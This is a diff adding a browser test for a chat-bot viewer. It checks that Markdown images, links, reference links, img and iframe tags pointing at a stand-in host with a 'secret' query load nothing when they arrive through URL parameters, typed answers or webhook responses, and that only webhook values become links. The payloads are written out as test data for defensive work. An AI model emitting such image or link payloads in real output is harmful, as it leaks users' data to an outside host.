@@ -136,6 +136,42 @@ describe.skipIf(!viewer)("hostile texts", async () => {
     await expectHarmless()
   })
 
+  test("of answers, addresses and upstreams load nothing, and only upstreams make links", async () => {
+    const evil = "https://evil.example/?d=secret"
+    const words = [
+      `![x](${evil}) [y](${evil}) <${evil}>`,
+      `[z][r] [![w](${evil})](${evil})`,
+      `<img src="${evil}"> <iframe src="${evil}"></iframe>`,
+      `[r]: ${evil}`,
+    ].join("\n\n")
+    upstream.answers(json({ words }))
+    const responseVariableMapping = [{ id: "w", bodyPath: "data.words", variableId: idOf("W") }]
+    const webhook = { url: upstream.url, method: "POST" }
+    const { page, expectHarmless } = await open(
+      bot(
+        { settings, variables: { Name: null } },
+        group(
+          "A",
+          ...[say("{{Name}}"), say("Hi {{Name}}!"), ask.text({ saves: "T", isLong: true })],
+          ...[say("{{T}}"), block("Webhook", { webhook, responseVariableMapping })],
+          ...[say("{{W}}"), say("See {{W}}!"), say("End")],
+        ),
+      ),
+      `?Name=${encodeURIComponent(words)}`,
+    )
+    await page.locator("textarea").fill(words)
+    expect(await page.locator(".host-bubble a, .host-bubble img").count()).toBe(0)
+    await page.locator("button.send").click()
+    await says(page, "End")
+    const bubbles = page.locator(".host-bubble")
+    expect(await bubbles.nth(2).locator("a, img").count()).toBe(0)
+    expect(await bubbles.nth(2).textContent()).toContain(`![x](${evil})`)
+    expect(await bubbles.nth(3).locator("a").count()).toBe(5)
+    expect(await page.locator(".chat img[src*='evil']").count()).toBe(0)
+    await page.locator(".chat").evaluate(pointAtEverything)
+    await expectHarmless()
+  })
+
   test("of models stay texts, and links of theirs that could run anything are none", async () => {
     // Without parentheses, which would end the address in Markdown.
     const written = links.map((link) => link.replace("ran()", "ran``"))
